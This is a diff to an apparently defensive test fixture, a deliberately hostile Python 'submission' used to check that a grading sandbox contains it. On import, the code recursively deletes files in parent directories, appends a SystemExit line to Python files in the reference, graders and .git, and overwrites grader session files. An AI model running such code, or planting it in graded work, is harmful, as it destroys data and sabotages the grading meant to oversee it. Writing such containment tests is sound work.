@@ -1,18 +1,27 @@
 """Hostile: delete its own scratch files and try to delete or modify the repository (reference,
-graders, the original submission), the oracle cache and the grader's session files.
-Honest score 0 (it returns zeros); nothing outside the sandbox may change.
+graders, the original submission, .git), the oracle cache and the grading sessions' files.
+Honest score 0 (it returns the wrong shape); nothing outside the sandbox may change.
 """
-import glob
 import os
 import shutil
+from pathlib import Path
 
 import numpy as np
 
+HERE = os.path.dirname(os.path.abspath(__file__))
 TARGETS = [
     "/work/main/reference", "/work/main/graders", "/work/main/.grader-cache",
-    "/work/main/tests/submissions", "/work/main/student_template", "/work/main/.git",
-    "/work/main/pyproject.toml", os.path.dirname(os.path.abspath(__file__)),
+    "/work/main/tests", "/work/main/student_template", "/work/main/.git",
+    "/work/main/pyproject.toml", HERE,
 ]
+
+
+def _sessions():
+    for top in ("/tmp", "/dev/shm"):
+        try:
+            yield from (str(p) for p in Path(top).glob("grader-*"))
+        except OSError:
+            pass
 
 
 def _vandalise():
@@ -21,10 +30,10 @@ def _vandalise():
             os.remove(name)
         except OSError:
             pass
-    for target in TARGETS + glob.glob("/tmp/grader-*") + glob.glob("/tmp/grader-*/*"):
+    for target in TARGETS + list(_sessions()):
         try:
             if os.path.isdir(target):
-                for path in glob.glob(os.path.join(target, "**", "*.py"), recursive=True):
+                for path in Path(target).rglob("*.py"):
                     try:
                         with open(path, "a") as f:
                             f.write("\nraise SystemExit('vandalised')\n")
@@ -36,12 +45,13 @@ def _vandalise():
                     f.write("vandalised\n")
         except OSError:
             pass
-    for parent in ("..", "../in", "../module", "../.."):
-        for name in os.listdir(parent) if os.path.isdir(parent) else []:
-            try:
-                os.remove(os.path.join(parent, name))
-            except OSError:
-                pass
+    for parent in ("..", "../..", "../../..", os.path.dirname(HERE)):
+        for root, dirs, files in os.walk(parent):
+            for name in files:
+                try:
+                    os.remove(os.path.join(root, name))
+                except OSError:
+                    pass
 
 
 _vandalise()
@@ -49,4 +59,4 @@ _vandalise()
 
 def sigmoid(x):
     _vandalise()
-    return np.zeros(np.shape(x))
+    return np.full((*np.shape(x), 2), 0.5)  # the wrong shape
